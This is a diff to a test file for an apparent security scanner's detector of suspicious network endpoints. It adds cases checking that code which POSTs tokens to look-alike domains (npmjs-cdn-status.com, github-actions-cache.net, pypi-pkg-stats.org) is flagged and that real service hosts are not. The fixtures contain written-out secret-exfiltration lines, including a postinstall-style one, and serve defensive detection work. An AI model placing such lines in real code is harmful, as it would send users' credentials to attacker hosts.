@@ -4469,6 +4469,29 @@ describe('suspicious-network-endpoint: a secret kept in a name and sent later, o
     expect(sent('src/up.py', ['requests.post("https://aws-region-status.com/r", json={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})'])?.severity).toBe('critical');
     expect(sent('src/up.ts', ["await fetch('https://registry.npmjs.org/-/npm/v1/tokens', { method: 'POST', body: JSON.stringify({ t: process.env.NPM_TOKEN }) });"])).toBeUndefined();
   });
+  it('takes a service\'s own domain name hyphened to dressing words, or its word joined to what it ships (actions, packages, pkg), for a look-alike (since 2026-12-02)', () => {
+    const post = (host: string, secret: string) => sent('src/up.ts', [`await fetch('https://${host}/u', { method: 'POST', body: JSON.stringify({ t: process.env.${secret} }) });`]);
+    expect(post('npmjs-cdn-status.com', 'NPM_TOKEN')?.severity).toBe('critical');
+    expect(post('github-actions-cache.net', 'GITHUB_TOKEN')?.severity).toBe('critical');
+    expect(post('npm-packages-mirror.com', 'NPM_TOKEN')?.severity).toBe('critical');
+    expect(sent('src/up.py', ['requests.post("https://pypi-pkg-stats.org/r", json={"k": os.environ["PYPI_API_TOKEN"]})'])?.severity).toBe('critical');
+  });
+  it('keeps the services\' real hosts their own, those that join their word to another included (npmjs.org, githubusercontent.com, sentry-cdn.com, google-analytics.com)', () => {
+    const post = (host: string, secret: string) => sent('src/up.ts', [`await fetch('https://${host}/u', { method: 'POST', body: JSON.stringify({ t: process.env.${secret} }) });`]);
+    for (const [host, secret] of [
+      ['registry.npmjs.org', 'NPM_TOKEN'],
+      ['www.npmjs.com', 'NPM_TOKEN'],
+      ['api.github.com', 'GITHUB_TOKEN'],
+      ['results-receiver.actions.githubusercontent.com', 'GITHUB_TOKEN'],
+      ['sts.amazonaws.com', 'AWS_SECRET_ACCESS_KEY'],
+      ['my-bucket.s3.us-east-1.amazonaws.com', 'AWS_SECRET_ACCESS_KEY'],
+      ['upload.pypi.org', 'PYPI_API_TOKEN'],
+      ['browser.sentry-cdn.com', 'SENTRY_AUTH_TOKEN'],
+      ['www.google-analytics.com', 'GOOGLE_API_KEY'],
+      ['x.public.blob.vercel-storage.com', 'VERCEL_TOKEN'],
+      ['cloudflare-dns.com', 'CLOUDFLARE_API_TOKEN'],
+    ]) expect(post(host ?? '', secret ?? ''), host).toBeUndefined();
+  });
   const pad = ['const a = 1;', 'const b = 2;', 'const c = 3;', 'const d = 4;', 'const e = 5;'];
   it('follows a key put in a URL\'s query (url.searchParams.set / .append) to the request that fetches the URL, lines or functions later (since 2026-12-02)', () => {
     expect(sent('src/postinstall.ts', ["const url = new URL('https://stats.pkg-insights.dev/v1/c');", "url.searchParams.set('k', process.env.NPM_TOKEN ?? '');", "url.searchParams.set('v', pkg.version);", ...pad, 'await fetch(url);'])).toMatchObject({ severity: 'high', line: 19 });
